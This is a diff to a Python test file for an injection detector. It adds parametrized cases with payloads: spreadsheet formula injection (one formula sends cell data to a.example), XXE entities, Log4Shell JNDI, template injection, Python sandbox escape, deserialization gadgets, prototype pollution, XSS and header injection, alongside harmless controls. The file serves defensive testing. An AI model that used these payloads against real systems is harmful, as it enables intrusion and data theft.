@@ -70,12 +70,58 @@ def test_a_search_may_still_be_an_attack(value: str) -> None:
         ("de%0d%0aSet-Cookie: a=b", "header_break_out"),
         ("--upload-pack=touch x", "option"),
         ("-oProxyCommand=id", "option"),
+        ("=cmd|'/c calc'!A0", "code_call"),
+        ('=HYPERLINK("http://a.example/?x="&A1)', "code_call"),
+        ("().__class__.__bases__[0].__subclasses__()", "code_call"),
+        ("--checkpoint=1 --checkpoint-action=exec=sh", "option"),
+        ('<!DOCTYPE a [<!ENTITY x SYSTEM "http://a.example/x">]><a>&x;</a>', "external_entity"),
+        ('{"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["id"]}]}', "object_injection"),
+        ("gASVIwAAAAAAAACMCGJ1aWx0aW5z", "object_injection"),
         ("a.example%0Aid", "break_out"),
         ("pic.png\" ; python3 -c 'import socket' ; \"", "break_out"),
     ],
 )
 def test_a_value_that_is_something_else_is_told_as_what_it_is(value: str, kind: str) -> None:
     assert kind in kinds(SHELL, value, "lookup", "name")
+
+
+@pytest.mark.parametrize(
+    ("text", "argument", "kind"),
+    [
+        ("${jndi:ldap://a.example/x}", "message", "code_call"),
+        ("{{7*7}}{{config.items()}}", "subject", "code_call"),
+        ("__import__('os').system('id')", "expression", "code_call"),
+        ("(lambda: __import__('subprocess').run('id'))()", "expression", "code_call"),
+        ('O:8:"Evil":1:{s:3:"cmd";s:2:"id";}', "data", "object_injection"),
+        ('{"constructor": {"prototype": {"admin": true}}}', "patch", "object_injection"),
+        (
+            '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY % d SYSTEM "http://a.example/d"> %d;]><a/>',
+            "body",
+            "external_entity",
+        ),
+        ("<script>alert(1)</script>", "title", "script"),
+        ("<svg onload=alert(1)>", "comment", "script"),
+        ("Hi\r\nBcc: a@b.example", "subject", "header_break_out"),
+    ],
+)
+def test_a_text_that_is_nothing_but_a_payload_is_found(text: str, argument: str, kind: str) -> None:
+    assert kind in kinds(SHELL, text, "save", argument)
+    assert kinds(SHELL, f"We saw {text} in a log.", "save", argument) == set()
+
+
+@pytest.mark.parametrize(
+    ("text", "argument"),
+    [
+        ("Hello {{ user.name }}, your order ships on {{ date }}.", "body"),
+        ("<script setup>\nimport a from 'a'\n</script>\n<template></template>", "content"),
+        ("<!DOCTYPE html><html></html>", "content"),
+        ("status = 'open' AND total > 7 * 7", "expression"),
+        ('{"name": "Ana", "constructor": "Bouygues"}', "data"),
+        ("Dear all,\nsee below.\nTo: everybody", "body"),
+    ],
+)
+def test_a_text_for_people_is_none(text: str, argument: str) -> None:
+    assert kinds(SHELL, text, "save", argument) == set()
 
 
 @pytest.mark.parametrize(
